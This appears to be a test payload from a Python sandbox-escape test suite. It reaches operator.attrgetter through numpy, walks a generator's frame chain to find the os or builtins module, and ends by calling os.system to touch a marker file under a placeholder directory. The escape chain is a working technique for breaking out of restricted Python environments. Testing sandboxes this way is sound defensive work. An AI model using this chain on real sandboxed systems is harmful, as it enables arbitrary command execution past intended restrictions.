# attempts: a generator's gi_frame.f_back chain (attrgetter strings) up to a frame whose globals hold os or builtins
# effect: exec
# step: climb the frames
ag = np.ma.core.operator.attrgetter
gen = None
gen = (ag('gi_frame.f_back')(gen) for _ in [0])
frame = list(gen)[0]
target = None
for _ in range(60):
    if frame is None or target is not None:
        break
    g = ag('f_globals')(frame)
    for v in list(g.values()) + list(ag('f_locals')(frame).values()):
        if ag('__class__.__name__')(v) == 'module' and ag('__name__')(v) in ('os', 'builtins'):
            target = v
    frame = ag('f_back')(frame)
osm = target if ag('__name__')(target) == 'os' else ag('__import__')(target)('os')
osm.system('touch @@MARKER_DIR@@/frame_walk')
